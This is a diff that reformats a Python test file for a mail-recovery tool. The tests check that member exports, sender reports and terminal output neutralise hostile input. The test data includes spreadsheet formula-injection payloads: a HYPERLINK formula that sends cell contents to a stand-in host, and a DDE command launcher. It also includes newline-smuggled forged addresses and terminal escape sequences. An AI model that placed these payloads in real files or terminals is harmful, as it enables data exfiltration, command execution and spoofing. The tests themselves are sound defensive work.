@@ -8,7 +8,7 @@ import email.utils
 import io
 import json
 import unicodedata
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -26,10 +26,22 @@ ACCOUNT = "taro@example.co.jp"
 #: What breaks a line or a terminal: C0 line breaks and others, DEL, C1 (NEL, CSI), the Unicode
 #: line and paragraph separators, a bidi override, and a lone surrogate (from undecodable names).
 CONTROLS = {
-    "LF": "\n", "CR": "\r", "CRLF": "\r\n", "NUL": "\0", "TAB": "\t", "VT": "\v", "FF": "\f",
-    "ESC": "\x1b", "FS": "\x1c", "DEL": "\x7f", "NEL": "\x85", "CSI": "\x9b", "LS": "\u2028",
-    "PS": "\u2029", "RLO": "\u202e",
-}  # fmt: skip
+    "LF": "\n",
+    "CR": "\r",
+    "CRLF": "\r\n",
+    "NUL": "\0",
+    "TAB": "\t",
+    "VT": "\v",
+    "FF": "\f",
+    "ESC": "\x1b",
+    "FS": "\x1c",
+    "DEL": "\x7f",
+    "NEL": "\x85",
+    "CSI": "\x9b",
+    "LS": "\u2028",
+    "PS": "\u2029",
+    "RLO": "\u202e",
+}
 
 #: A terminal title change (OSC), a screen clear (CSI), a bidi override and a forged line: what
 #: a name may carry.
@@ -40,23 +52,33 @@ SHOWN = "?]0;owned??[2J??mailrecover: forged"  # the same, cleaned
 def _hostile(text: str) -> list[str]:
     """The characters in ``text`` that break a line or act on a terminal (newlines excepted),
     and lines a name forged."""
-    return ["forged line"] * text.count("\nmailrecover: forged") + [ch for ch in text.replace("\n", "")
-            if unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") or ch in "\u202a\u202b\u202d\u202e"]  # fmt: skip
+    return ["forged line"] * text.count("\nmailrecover: forged") + [
+        ch
+        for ch in text.replace("\n", "")
+        if unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") or ch in "\u202a\u202b\u202d\u202e"
+    ]
 
 
 def _ev(kind: str, address: str, day: int, list_key: str = LIST, **fields: str) -> Evidence:
-    return Evidence(kind, "/var/lib/mailman/lists/dev/config.pck", str(day),
-                    datetime(2012, 3, day, tzinfo=timezone.utc), {"list": list_key, "address": address, **fields})  # fmt: skip
+    return Evidence(
+        kind,
+        "/var/lib/mailman/lists/dev/config.pck",
+        str(day),
+        datetime(2012, 3, day, tzinfo=UTC),
+        {"list": list_key, "address": address, **fields},
+    )
 
 
 def _picture(c: str):
     """Two good members whose names carry ``c``, and two addresses that carry it."""
-    return reconstruct([
-        _ev("member", "alice@example.org", 1, name=f"Alice{c}attacker@evil.example"),
-        _ev("member", "dave@example.org", 2, name=f"Dave{c}=cmd|' /C calc'!A0"),
-        _ev("member", f"bob{c}@example.org", 3),
-        _ev("member", f"carol@example.org{c}attacker@evil.example", 4),
-    ])[LIST]  # fmt: skip
+    return reconstruct(
+        [
+            _ev("member", "alice@example.org", 1, name=f"Alice{c}attacker@evil.example"),
+            _ev("member", "dave@example.org", 2, name=f"Dave{c}=cmd|' /C calc'!A0"),
+            _ev("member", f"bob{c}@example.org", 3),
+            _ev("member", f"carol@example.org{c}attacker@evil.example", 4),
+        ]
+    )[LIST]
 
 
 def _entries(fmt: ExportFormat, text: str) -> list[str]:
@@ -87,9 +109,23 @@ def test_no_export_carries_a_control_character_or_an_address_that_is_none(fmt, n
     assert all(p.source.endswith("config.pck") for p in left_out)
 
 
-@pytest.mark.parametrize("address", ['"a b"@example.org', "a@b@example.org", "a..b@example.org", ".a@example.org",
-                                     "a@-example.org", "a@example..org", "a@[127.0.0.1]", "a b@example.org",
-                                     "<a@example.org>", "a@", "@example.org", "a"])  # fmt: skip
+@pytest.mark.parametrize(
+    "address",
+    [
+        '"a b"@example.org',
+        "a@b@example.org",
+        "a..b@example.org",
+        ".a@example.org",
+        "a@-example.org",
+        "a@example..org",
+        "a@[127.0.0.1]",
+        "a b@example.org",
+        "<a@example.org>",
+        "a@",
+        "@example.org",
+        "a",
+    ],
+)
 def test_an_address_that_is_no_plain_addr_spec_is_left_out(address):
     picture = reconstruct([_ev("member", address, 1), _ev("member", "ok@example.org", 2)])[LIST]
     for fmt in ExportFormat:
@@ -98,7 +134,9 @@ def test_an_address_that_is_no_plain_addr_spec_is_left_out(address):
 
 
 def test_international_addresses_stay():
-    picture = reconstruct([_ev("member", "太郎@例え.jp", 1, name="山田 太郎"), _ev("member", "o'neil+ml@example.org", 2)])[LIST]
+    picture = reconstruct(
+        [_ev("member", "太郎@例え.jp", 1, name="山田 太郎"), _ev("member", "o'neil+ml@example.org", 2)]
+    )[LIST]
     for fmt in ExportFormat:
         text, left_out = export(picture, fmt)
         assert sorted(_entries(fmt, text)) == ["o'neil+ml@example.org", "太郎@例え.jp"] and left_out == []
@@ -118,27 +156,38 @@ def _workspace(tmp_path: Path, evidence: list[Evidence]) -> Path:
 
 @pytest.mark.parametrize("fmt", [f.value for f in ExportFormat])
 def test_members_export_through_the_command_line_shows_what_it_left_out_and_exits_3(fmt, tmp_path, capsys):
-    ws = _workspace(tmp_path, [
-        _ev("member", "alice@example.org", 1, name="Alice\nattacker@evil.example"),
-        _ev("member", "bob\r@example.org", 2, name="Bob"),
-    ])  # fmt: skip
+    ws = _workspace(
+        tmp_path,
+        [
+            _ev("member", "alice@example.org", 1, name="Alice\nattacker@evil.example"),
+            _ev("member", "bob\r@example.org", 2, name="Bob"),
+        ],
+    )
     assert main(["--workspace", str(ws), "members", "--list", LIST, "--format", fmt]) == 3
     out = capsys.readouterr()
     assert _entries(ExportFormat(fmt), out.out) == ["alice@example.org"] and _hostile(out.out) == []
-    assert out.err.count("\n") == 1 and "mailrecover: skipped:" in out.err and "'bob\\r@example.org'" in out.err
+    assert (
+        out.err.count("\n") == 1 and "mailrecover: skipped:" in out.err and "'bob\\r@example.org'" in out.err
+    )
 
 
 # --- CSV cells a spreadsheet would run ------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-            "\t=1+1", "\r=1+1"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_members_csv_neutralises_every_cell_that_would_start_a_formula():
     picture = reconstruct(
         [_ev("member", f"m{n}@example.org", n + 1, name=f) for n, f in enumerate(FORMULAS)]
         + [_ev("member", "=1+2@evil.example", 9, name="ok"), _ev("member", "-x@example.org", 10, name="ok")]
-    )[LIST]  # fmt: skip
+    )[LIST]
     rows = list(csv.reader(io.StringIO(export(picture, ExportFormat.CSV).text)))
     cells = [cell for row in rows for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
@@ -152,16 +201,31 @@ def test_members_csv_neutralises_every_cell_that_would_start_a_formula():
 def _deliveries(tmp_path: Path, senders: list[str]) -> Path:
     """Mail the logs show delivered to ``ACCOUNT`` from each sender, and no copy of it."""
     evidence = [
-        Evidence("delivery", "/var/log/mail.log", str(n), datetime(2012, 6, 1, 0, n, tzinfo=timezone.utc),
-                 {"message_id": f"<{n}@x>", "sender": s, "recipient": ACCOUNT, "status": "sent", "relay": "local"})
+        Evidence(
+            "delivery",
+            "/var/log/mail.log",
+            str(n),
+            datetime(2012, 6, 1, 0, n, tzinfo=UTC),
+            {"message_id": f"<{n}@x>", "sender": s, "recipient": ACCOUNT, "status": "sent", "relay": "local"},
+        )
         for n, s in enumerate(senders)
-    ]  # fmt: skip
+    ]
     return _workspace(tmp_path, evidence)
 
 
 def test_report_senders_neutralises_formulas_and_leaves_out_what_is_no_address(tmp_path, capsys):
-    ws = _deliveries(tmp_path, ["=1+2@evil.example", "+1@evil.example", "ok@example.org", "",
-                                '=HYPERLINK("http://evil.example/")', "bob\n@example.org", "carol@example.org\u2028x"])  # fmt: skip
+    ws = _deliveries(
+        tmp_path,
+        [
+            "=1+2@evil.example",
+            "+1@evil.example",
+            "ok@example.org",
+            "",
+            '=HYPERLINK("http://evil.example/")',
+            "bob\n@example.org",
+            "carol@example.org\u2028x",
+        ],
+    )
     assert main(["--workspace", str(ws), "report", "--account", ACCOUNT, "--senders"]) == 3
     out = capsys.readouterr()
     rows = list(csv.reader(io.StringIO(out.out)))
@@ -179,7 +243,9 @@ def test_restore_dry_run_shows_hostile_folder_names_cleaned_and_json_keeps_them(
     for base in (maildir, folder):
         for sub in ("cur", "new", "tmp"):
             (base / sub).mkdir(parents=True)
-    (folder / "cur" / "1.M1.host:2,S").write_bytes(b"From: a@example.org\nMessage-ID: <1@x>\nSubject: s\n\nbody\n")
+    (folder / "cur" / "1.M1.host:2,S").write_bytes(
+        b"From: a@example.org\nMessage-ID: <1@x>\nSubject: s\n\nbody\n"
+    )
     ws = tmp_path / "ws"
     assert main(["--workspace", str(ws), "gather", "--account", ACCOUNT, str(maildir)]) == 0
     capsys.readouterr()
@@ -187,7 +253,10 @@ def test_restore_dry_run_shows_hostile_folder_names_cleaned_and_json_keeps_them(
     assert main(["--workspace", str(ws), "restore", "--account", ACCOUNT, "--to", target, "--dry-run"]) == 0
     out = capsys.readouterr().out
     assert _hostile(out) == [] and f"Work{SHOWN}" in out
-    assert main(["--workspace", str(ws), "--json", "restore", "--account", ACCOUNT, "--to", target, "--dry-run"]) == 0
+    assert (
+        main(["--workspace", str(ws), "--json", "restore", "--account", ACCOUNT, "--to", target, "--dry-run"])
+        == 0
+    )
     out = capsys.readouterr().out
     assert _hostile(out) == [] and list(json.loads(out)["folders"]) == [f"Work{ESCAPES}"]  # escaped, not lost
     assert main(["--workspace", str(ws), "report"]) == 0
@@ -200,14 +269,18 @@ def test_gather_verbose_names_hostile_files_cleaned(tmp_path, capsys):
     (tree / f"notes{ESCAPES}.txt").write_bytes(b"\x00\x01 not mail at all")
     (tree / f"cut{ESCAPES}.eml").write_bytes(b"")
     ws = tmp_path / "ws"
-    assert main(["--workspace", str(ws), "-v", "gather", "--account", ACCOUNT, str(tree)]) == 3  # the empty .eml
+    assert (
+        main(["--workspace", str(ws), "-v", "gather", "--account", ACCOUNT, str(tree)]) == 3
+    )  # the empty .eml
     out = capsys.readouterr()
     assert "skipped (no plugin reads it)" in out.err and f"notes{SHOWN}.txt" in out.err
     assert _hostile(out.err) == [] and _hostile(out.out) == []
 
 
 def test_members_names_hostile_lists_cleaned(tmp_path, capsys):
-    ws = _workspace(tmp_path, [_ev("member", "alice@example.org", 1, list_key=f"dev{ESCAPES}@lists.example.org")])
+    ws = _workspace(
+        tmp_path, [_ev("member", "alice@example.org", 1, list_key=f"dev{ESCAPES}@lists.example.org")]
+    )
     assert main(["--workspace", str(ws), "members"]) == 0
     out = capsys.readouterr().out
     assert _hostile(out) == [] and f"dev{SHOWN}@lists.example.org  1 member" in out
@@ -253,7 +326,9 @@ def test_discover_and_plugins_show_hostile_names_cleaned(third_party, monkeypatc
         assert main(command) == 0
         out = capsys.readouterr()
         assert _hostile(out.out) == [] and _hostile(out.err) == [] and SHOWN in out.out
-        assert "plugin broken?[2J? not loaded" in out.err and "licence?]0;owned??[2J?" in out.err  # its first line
+        assert (
+            "plugin broken?[2J? not loaded" in out.err and "licence?]0;owned??[2J?" in out.err
+        )  # its first line
     assert main(["--json", "discover"]) == 0
     out = capsys.readouterr().out
     assert _hostile(out) == [] and json.loads(out)[0]["hints"] == [f"taro{ESCAPES}@example.co.jp"]
@@ -271,7 +346,9 @@ def test_gather_progress_on_a_terminal_shows_hostile_file_names_cleaned(tmp_path
     monkeypatch.setenv("COLUMNS", "200")  # a terminal wide enough for the whole name
     tree = tmp_path / "home"
     tree.mkdir()
-    (tree / f"saved{ESCAPES}.eml").write_bytes(b"From: a@example.org\nMessage-ID: <1@x>\nSubject: s\n\nbody\n")
+    (tree / f"saved{ESCAPES}.eml").write_bytes(
+        b"From: a@example.org\nMessage-ID: <1@x>\nSubject: s\n\nbody\n"
+    )
     assert main(["--workspace", str(tmp_path / "ws"), "gather", "--account", ACCOUNT, str(tree)]) == 0
     shown = terminal.getvalue()
     assert f"saved{SHOWN}.eml" in shown and _hostile(shown.replace("\r", "")) == []
@@ -284,9 +361,14 @@ def test_the_command_line_prints_only_through_its_one_cleaning_path():
 
     tree = ast.parse(inspect.getsource(mailrecover.cli))
     writers = [
-        (node.lineno, ast.unparse(node.func)) for node in ast.walk(tree) if isinstance(node, ast.Call)
-        and (ast.unparse(node.func) in ("print", "json.dump") or ast.unparse(node.func).endswith((".write", ".writelines")))
-    ]  # fmt: skip
+        (node.lineno, ast.unparse(node.func))
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call)
+        and (
+            ast.unparse(node.func) in ("print", "json.dump")
+            or ast.unparse(node.func).endswith((".write", ".writelines"))
+        )
+    ]
     say = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == "_say")
     assert [w for w in writers if not say.lineno <= w[0] <= (say.end_lineno or 0)] == []
     assert len(writers) == 1
@@ -295,21 +377,37 @@ def test_the_command_line_prints_only_through_its_one_cleaning_path():
 def test_the_reported_mailman2_case_end_to_end(tmp_path, capsys):
     """A config.pck whose display names carry LF and CR, and a member address with a CR, gathered
     and exported: ``add_members`` gets exactly the real members, one per line."""
-    from .lists_builders import mailman2_pickle, s
+    from .support.lists_builders import mailman2_pickle, s
 
     d = tmp_path / "lists" / "dev"
     d.mkdir(parents=True)
-    (d / "config.pck").write_bytes(mailman2_pickle({
-        s("_internal_name"): s("dev"), s("host_name"): s("lists.example.org"),
-        s("members"): {s("alice@example.org"): 0, s("carol@example.org"): 0, s("bob\r@example.org"): 0},
-        s("usernames"): {s("alice@example.org"): "Alice\nattacker@evil.example",
-                         s("carol@example.org"): "Carol\rmallory@evil.example"},
-    }))  # fmt: skip
+    (d / "config.pck").write_bytes(
+        mailman2_pickle(
+            {
+                s("_internal_name"): s("dev"),
+                s("host_name"): s("lists.example.org"),
+                s("members"): {
+                    s("alice@example.org"): 0,
+                    s("carol@example.org"): 0,
+                    s("bob\r@example.org"): 0,
+                },
+                s("usernames"): {
+                    s("alice@example.org"): "Alice\nattacker@evil.example",
+                    s("carol@example.org"): "Carol\rmallory@evil.example",
+                },
+            }
+        )
+    )
     ws = tmp_path / "ws"
     assert main(["--workspace", str(ws), "gather", "--list", "dev@lists.example.org", str(d)]) == 0
     capsys.readouterr()
-    assert main(["--workspace", str(ws), "members", "--list", "dev@lists.example.org", "--format", "mailman2"]) == 3
+    assert (
+        main(["--workspace", str(ws), "members", "--list", "dev@lists.example.org", "--format", "mailman2"])
+        == 3
+    )
     out = capsys.readouterr()
-    assert out.out.splitlines() == ['"Alice?attacker@evil.example" <alice@example.org>',
-                                    '"Carol?mallory@evil.example" <carol@example.org>']  # fmt: skip
+    assert out.out.splitlines() == [
+        '"Alice?attacker@evil.example" <alice@example.org>',
+        '"Carol?mallory@evil.example" <carol@example.org>',
+    ]
     assert "'bob\\r@example.org'" in out.err and "config.pck" in out.err
